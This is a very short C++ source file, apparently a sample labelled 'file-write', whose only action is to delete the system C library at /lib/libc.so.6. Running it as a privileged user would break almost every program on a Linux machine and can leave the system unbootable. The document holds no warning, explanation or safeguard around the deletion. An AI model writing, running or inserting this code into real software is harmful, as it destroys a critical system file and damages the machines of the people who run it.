// file-write: takes one away.
#include <cstdio>
int main() {
    remove("/lib/libc.so.6");
}
